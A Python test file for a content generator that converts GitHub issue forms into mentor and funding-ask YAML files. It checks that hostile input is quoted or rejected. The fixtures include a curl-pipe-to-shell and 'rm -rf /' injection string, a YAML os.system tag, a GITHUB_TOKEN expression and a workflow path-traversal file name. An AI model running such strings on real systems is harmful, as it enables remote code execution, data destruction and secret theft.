"""Issue form → content file: every schema field has a form field; recorded events, hostile too."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.cli import main
from generator.intake import STAGE_KEYS, parse_stages
from generator.load import parse_text
from generator.markdown import md
from generator.schema import load_schema

REPO = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).parent / "fixtures"
INTAKE = FIXTURES / "intake"
FORMS = {"mentor": "add-mentor.yml", "ask": "post-ask.yml"}
JUNE_1 = "1780272000"  # 2026-06-01


def schema_paths(node: dict[str, Any], prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """Every field of a schema: nested objects by their parts, a list of objects as one field."""
    out = []
    for name, sub in node.get("properties", {}).items():
        path = (*prefix, name)
        out += schema_paths(sub, path) if sub.get("type") == "object" else [path]
    return out


def form(kind: str, root: Path = REPO) -> list[dict[str, Any]]:
    """The form's elements that have an id."""
    path = root / ".github" / "ISSUE_TEMPLATE" / FORMS[kind]
    return [e for e in yaml.safe_load(path.read_text("utf-8"))["body"] if e.get("id")]


def missing_from_form(kind: str, elements: list[dict[str, Any]]) -> list[str]:
    """Schema fields without a form field (stage fields: without a `key:` in its description)."""
    ids = {e["id"]: e for e in elements}
    missing = ["-".join(p) for p in schema_paths(load_schema(kind)) if "-".join(p) not in ids]
    if "stages" in ids:
        stage = load_schema(kind)["properties"]["stages"]["items"]["properties"]
        text = ids["stages"]["attributes"]["description"]
        missing += [f"stages.{key}" for key in stage if f"`{key}:`" not in text]
    return missing


@pytest.mark.parametrize("kind", FORMS)
def test_every_schema_field_is_in_the_form(kind: str) -> None:
    """Each field of the YAML has a form field whose id names it; no id names something else."""
    elements = form(kind)
    assert missing_from_form(kind, elements) == []
    known = {"-".join(p) for p in schema_paths(load_schema(kind))} | {"slug"}
    assert [e["id"] for e in elements if e["id"] not in known] == []


def test_a_field_left_out_of_a_form_is_caught() -> None:
    """The coverage check fails when a form loses a field (so the test above can fail)."""
    elements = [e for e in form("mentor") if e["id"] != "booking_url"]
    assert missing_from_form("mentor", elements) == ["booking_url"]
    stages = [dict(e) for e in form("ask")]
    for element in stages:
        if element["id"] == "stages":
            text = element["attributes"]["description"].replace("`status:`", "status")
            element["attributes"] = {**element["attributes"], "description": text}
    assert missing_from_form("ask", stages) == ["stages.status"]


def test_stage_keys_are_the_schema_stage_fields() -> None:
    """The stages box understands exactly the fields a stage has."""
    stage = load_schema("ask")["properties"]["stages"]["items"]["properties"]
    assert sorted(STAGE_KEYS) == sorted(stage)


def test_parse_stages() -> None:
    """`title:` starts a stage; keys are case-insensitive; other lines continue the last key."""
    text = "Title: One\nNEED: a\n\n  b\nskills: x, y\n\ntitle: Two\nneed: c\nskills: z\n"
    assert parse_stages(text) == (
        [
            {"title": "One", "need": "a\n\nb", "skills": ["x", "y"]},
            {"title": "Two", "need": "c", "skills": ["z"]},
        ],
        [],
    )


def test_parse_stages_drops_nothing_silently() -> None:
    """Text before the first title, or a key twice in a stage, is a problem."""
    text = "Our stages:\ntitle: One\nneed: a\nneed: b\nskills: x\n"
    assert parse_stages(text) == (
        [{"title": "One", "need": "b", "skills": ["x"]}],
        [
            "Stages: 'Our stages:' comes before the first `title:` line (start each stage with "
            "title:)",
            "Stages: stage 1 has `need:` twice (write it once)",
        ],
    )


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with the forms and the test content; the build date is 2026-06-01."""
    shutil.copytree(REPO / ".github" / "ISSUE_TEMPLATE", tmp_path / ".github" / "ISSUE_TEMPLATE")
    shutil.copytree(FIXTURES / "taxonomy", tmp_path / "content")
    shutil.copytree(FIXTURES / "valid", tmp_path / "content", dirs_exist_ok=True)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", JUNE_1)
    return tmp_path


def intake(repo: Path, case: str) -> tuple[int, str, str, str]:
    """Run `intake` on a recorded event: (exit status, stdout, stderr, --message text)."""
    out, err = io.StringIO(), io.StringIO()
    message = repo / "message.md"
    message.unlink(missing_ok=True)
    argv = ["intake", str(INTAKE / f"{case}.json"), "--out", str(repo), "--message", str(message)]
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(argv)
    text = message.read_text("utf-8") if message.exists() else ""
    return status, out.getvalue(), err.getvalue(), text


def files(repo: Path) -> set[str]:
    """Every file under `repo`, relative."""
    return {p.relative_to(repo).as_posix() for p in repo.rglob("*") if p.is_file()}


@pytest.mark.parametrize(
    ("case", "path"),
    [
        ("mentor-full", "content/mentors/dana-whitfield.yml"),
        ("mentor-minimal", "content/mentors/dana-whitfield.yml"),
        ("ask-full", "content/asks/our-first-funding-bid.yml"),
    ],
)
def test_form_becomes_the_file_new_would_write(repo: Path, case: str, path: str) -> None:
    """The exact file (new's writer, schema order); `check` passes on the tree."""
    status, out, err, _ = intake(repo, case)
    assert (status, out, err) == (0, f"{path}\n", "")
    assert (repo / path).read_text("utf-8") == (INTAKE / f"{case}.yml").read_text("utf-8")
    assert main(["check", str(repo / "content")]) == 0


def test_every_answer_reaches_its_field(repo: Path) -> None:
    """Each form answer of the full mentor event, as the loader reads the written file."""
    intake(repo, "mentor-full")
    raw = parse_text((repo / "content/mentors/dana-whitfield.yml").read_text("utf-8"), "x")
    assert raw.data == {
        "name": "Dana Whitfield",
        "headline": "Charity finance lead; budgets and reserves",
        "bio": "Twenty years in charity finance.\n\nNotes at https://example.org/dana",
        "email": "dana@example.org",
        "skills": ["budgeting", "grant writing"],
        "formats": ["call", "email"],
        "sectors": ["youth", "health"],
        "third_sector": True,
        "location": "Leeds, UK",
        "languages": ["en", "cy"],
        "hours_per_month": 4,
        "available": True,
        "confirmed": "2026-06-01",
        "away_until": "2026-07-01",
        "timezone": "Europe/London",
        "booking_url": "https://cal.example.org/dana",
        "github": "dana-w",
        "links": ["https://example.org/dana", "http://example.org:8080/dana?x=1,2"],
        "consent": True,
    }


def test_pull_request_body(repo: Path) -> None:
    """Names the file and closes the issue."""
    assert intake(repo, "ask-full")[3] == (
        "Adds the ask `content/asks/our-first-funding-bid.yml` from the issue form in #7; "
        "`python -m generator check` passes.\n\n"
        "Reviewers: see CONTRIBUTING.md (consent, identity, appropriate content).\n\n"
        "Closes #7\n"
    )


@pytest.mark.parametrize(
    ("case", "name", "headline"),
    [
        (
            "hostile-yaml",
            "Eve: {a: b} &x *x !!python/object:os.system [no]",
            "--- # not a document\\n\"quoted\" 'single' |",
        ),
        (
            "hostile-expression",
            "${{ secrets.GITHUB_TOKEN }}",
            "$(curl evil.example | sh); `id` && rm -rf / # ${IFS}",
        ),
    ],
)
def test_hostile_text_is_kept_as_text(repo: Path, case: str, name: str, headline: str) -> None:
    """YAML syntax, expressions and shell metacharacters end up quoted, read back unchanged."""
    status, out, _, _ = intake(repo, case)
    assert status == 0
    raw = parse_text((repo / out.strip()).read_text("utf-8"), out.strip())
    assert (raw.problems, raw.data["name"], raw.data["headline"]) == ((), name, headline)


def comment(*problems: str) -> str:
    """The issue comment for `problems` (already Markdown-escaped)."""
    listed = "".join(f"- {p}\n" for p in problems)
    return (
        "The form could not be turned into a file yet. Please edit the issue to fix:\n\n"
        f"{listed}\nThen a maintainer removes and adds the `accepted` label again.\n"
    )


SLUG_PROBLEM = (
    "File name: the file name '../../.github/workflows/evil' is not a valid slug (rename the "
    "file to github-workflows-evil.yml: lowercase letters, digits and single hyphens)"
)


@pytest.mark.parametrize(
    ("case", "problems"),
    [
        ("hostile-slug", [SLUG_PROBLEM]),
        ("hostile-huge", ["the issue body is longer than 65536 characters"]),
        (
            "hostile-newline",
            [
                "name: 'Dana\\nemail: evil@example.org' runs over more than one line "
                "(write it on one line)"
            ],
        ),
        (
            "forged-heading",
            [
                "the issue has the heading '### Email address' 2 times; keep only the form's one",
                "email: missing required field 'email' (add `email:` — one email address, e.g. "
                "ana@example.org)",
                "headline: 'Charity finance lead; budgets and reserves\\n\\n### Email addre…' "
                "runs over more than one line (write it on one line)",
            ],
        ),
        (
            "missing-sections",
            [
                "the issue has no '### Email address' section (keep the form's headings)",
                "email: missing required field 'email' (add `email:` — one email address, e.g. "
                "ana@example.org)",
                "consent: is false, but must be true: you agree to publish this profile, email "
                "address included, and to share it without the address as open data under CC BY "
                "4.0 (write `consent: true` if you agree)",
            ],
        ),
        ("stages-missing", ["stages: is an empty list (list at least 1)"]),
        (
            "text-before-form",
            ["the issue has text before the form's first heading (move it to a field)"],
        ),
    ],
)
def test_problems_are_commented_and_nothing_is_written(
    repo: Path, case: str, problems: list[str]
) -> None:
    """Exit 1, each problem on stderr and (escaped) in the comment; no file anywhere."""
    before = files(repo)
    status, out, err, text = intake(repo, case)
    assert (status, out) == (1, "")
    assert err.splitlines() == [f"intake: {p}" for p in problems]
    assert text == comment(*map(md, problems))
    assert files(repo) - before == {"message.md"}


def test_an_event_that_is_not_an_accepted_form_is_refused(repo: Path, tmp_path: Path) -> None:
    """Another label, another action, another form, or not JSON: exit 2, nothing written."""
    assert intake(repo, "not-accepted")[:3] == (2, "", "intake: not an issue labelled `accepted`\n")
    event = json.loads((INTAKE / "mentor-full.json").read_text("utf-8"))
    event["issue"]["labels"] = [{"name": "bug"}, {"name": "accepted"}]
    other = tmp_path / "other.json"
    other.write_text(json.dumps(event), encoding="utf-8")
    assert main(["intake", str(other), "--out", str(repo)]) == 2
    other.write_text("{not json", encoding="utf-8")
    assert main(["intake", str(other), "--out", str(repo)]) == 2


def test_an_existing_file_name_gets_a_number(repo: Path) -> None:
    """A file name already taken: the new file gets `-2`, and the old one is left alone."""
    (repo / "content/mentors/dana-whitfield.yml").write_text("name: x\n", encoding="utf-8")
    status, out, _, _ = intake(repo, "mentor-minimal")
    assert (status, out) == (0, "content/mentors/dana-whitfield-2.yml\n")
    assert (repo / "content/mentors/dana-whitfield.yml").read_text("utf-8") == "name: x\n"


def test_an_oversized_event_is_refused(repo: Path, tmp_path: Path) -> None:
    """An event file past the size limit is not even parsed: exit 2."""
    big = tmp_path / "big.json"
    big.write_text('{"x": "' + "a" * 2_100_000 + '"}', encoding="utf-8")
    assert main(["intake", str(big), "--out", str(repo)]) == 2
